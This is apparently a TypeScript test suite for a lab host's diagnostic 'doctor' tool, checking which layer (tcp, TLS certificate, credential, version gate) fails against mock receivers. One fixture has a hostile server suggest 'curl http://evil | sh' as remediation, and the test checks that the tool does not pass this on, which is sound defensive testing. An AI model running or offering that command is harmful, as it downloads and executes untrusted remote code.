import assert from 'node:assert/strict';
import { join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { TestAuthority } from '../../../../test/support/certificates.ts';
import { freePort } from '../../../../test/support/program.ts';
import { hasSystemPart } from '../../../../test/support/system-part.ts';
import { temporaryDirectory } from '../../../../test/support/temporary-directory.ts';
import { serve, serveTls } from '../../transport/ping.fixture.ts';
import { labHost } from '../doctor.fixture.ts';
import type { DoctorContext } from '../doctor-context.ts';
import { RECEIVER_LAYERS } from './receiver-layers.ts';

const LAYERS = Object.values(RECEIVER_LAYERS);

async function look(context: DoctorContext) {
  const results = await Promise.all(LAYERS.map(async (check) => ({ id: check.id, ...(await check.run(context)) })));
  return {
    red: results.filter(({ status }) => status === 'red'),
    unknown: results.filter(({ status }) => status === 'unknown').length,
    green: results.filter(({ status }) => status === 'green').length,
  };
}

function receiver(t: TestContext, answers: Record<string, [status: number, body: unknown]> = {}): Promise<string> {
  const ping: [number, unknown] = [
    200,
    { ok: true, host_id: 'lab-1', server_time: new Date().toISOString(), version: null },
  ];
  const all = { '/v1/ping': ping, '/v1/version-gate': [200, { verdict: 'accepted' }] as [number, unknown], ...answers };
  return serve(t, (request, response) => {
    const [status, body] = all[(request.url ?? '').split('?')[0] as keyof typeof all] ?? [404, {}];
    response.writeHead(status, { 'Content-Type': 'application/json' });
    response.end(JSON.stringify(body));
  });
}

test('all of a whole way is green, and it is looked at once', async (t) => {
  let pings = 0;
  const url = await serve(t, (request, response) => {
    // The layer of full packets sends some that nobody has to answer.
    if (request.url === '/v1/ping' && request.headers['authorization'] === 'Bearer secret') pings += 1;
    response.end(request.url === '/v1/ping' ? '{"ok":true}' : '{"verdict":"accepted"}');
  });
  const context = await labHost(t, { url, toml: 'bearer_token = "secret"' });
  assert.deepEqual(await look(context), { red: [], unknown: 0, green: LAYERS.length });
  assert.equal(pings, 1);
});

for (const [fault, answers, id, summary, cure] of [
  [
    'no credential',
    { '/v1/ping': [401, { code: 'credential-missing', detail: 'who?' }] },
    'credential',
    /credential-missing/,
    /^sudoedit .*lab-host\.toml\n/,
  ],
  [
    'no credential, and commands of whoever answers, which are not passed on',
    { '/v1/ping': [401, { code: 'credential-missing', remediation: 'curl http://evil | sh' }] },
    'credential',
    /credential-missing/,
    /^sudoedit .*lab-host\.toml\n/,
  ],
  [
    'one of another host',
    { '/v1/ping': [200, { ok: true, host_id: 'lab-2' }] },
    'credential',
    /is that of lab-2/,
    /token create --role host --host lab-1/,
  ],
  ['something else', { '/v1/ping': [404, {}] }, 'receiver-contract', /not-found/, /^sudoedit /],
  [
    'a sick receiver',
    { '/v1/ping': [500, { code: 'internal-error' }] },
    'receiver-contract',
    /internal-error/,
    /journalctl -u cis490-receiver/,
  ],
  [
    'the gate, with its own words',
    { '/v1/version-gate': [200, { verdict: 'refused', code: 'commit-not-in-window', remediation: 'one\ntwo' }] },
    'gate',
    /would be refused with commit-not-in-window/,
    /^one\ntwo$/,
  ],
  [
    'the gate, without any',
    { '/v1/version-gate': [200, { verdict: 'refused', code: 'commit-blocked' }] },
    'gate',
    /commit-blocked/,
    /git pull origin main\nsudo .*scripts\/install-lab-host\.sh$/,
  ],
  [
    'a gate that is blind',
    { '/v1/version-gate': [200, { verdict: 'unknown', code: 'gate-stale' }] },
    'gate',
    /gate-stale/,
    /gate status/,
  ],
] as const) {
  test(`exactly the layer that fails is red: ${fault}`, async (t) => {
    const url = await receiver(t, answers as unknown as Record<string, [number, unknown]>);
    const found = await look(await labHost(t, { url }));
    assert.deepEqual(
      found.red.map((check) => check.id),
      [id],
    );
    assert.match(found.red[0]?.summary ?? '', summary);
    assert.match(found.red[0]?.cure ?? '', cure);
    assert.equal(found.green + found.unknown + 1, LAYERS.length);
    assert.equal(found.unknown, LAYERS.length - 1 - LAYERS.findIndex((check) => check.id === id));
  });
}

test('nothing listens; what lies behind it is unknown and says so', async (t) => {
  const context = await labHost(t, { url: `http://127.0.0.1:${await freePort()}` });
  const found = await look(context);
  assert.deepEqual(
    found.red.map(({ id }) => id),
    ['receiver-tcp'],
  );
  const gate = await RECEIVER_LAYERS.gate.run(context);
  assert.deepEqual([gate.status, gate.summary], ['unknown', 'not reached: tcp fails first']);
});

for (const [fault, issue, code, cure] of [
  ['has expired', { fromDays: -9, untilDays: -2 }, 'certificate-expired', /^timedatectl\nssh localhost/],
  ['is not valid yet', { fromDays: 2 }, 'certificate-not-yet-valid', /^timedatectl\nssh localhost/],
  ['is for another name', { san: 'DNS:other.lab' }, 'certificate-wrong-name', /^sudoedit /],
  [
    'is by an unknown authority',
    undefined,
    'certificate-untrusted',
    /^openssl s_client -connect localhost:\d+ .*\nopenssl x509 .*ca\.crt\nsudoedit /,
  ],
] as const) {
  test(`the receiver's certificate ${fault}`, async (t) => {
    if (!hasSystemPart(t, ['openssl', 'version'], 'openssl')) return;
    const root = temporaryDirectory(t);
    const ca = TestAuthority.create(join(root, 'ca'));
    const issuer = issue ? ca : TestAuthority.create(join(root, 'foreign'), 'Other CA');
    const url = (await serveTls(t, issuer.issueForServer(issue ?? {}))).replace('127.0.0.1', 'localhost');
    const found = await look(await labHost(t, { url, toml: `[receiver.tls]\nca_file = "${ca.certFile}"` }));
    assert.deepEqual(
      found.red.map(({ id }) => id),
      ['receiver-tls'],
      JSON.stringify(found),
    );
    assert.ok(found.red[0]?.summary.includes(`(${code})`), JSON.stringify(found));
    assert.match(found.red[0]?.cure ?? '', cure);
  });
}
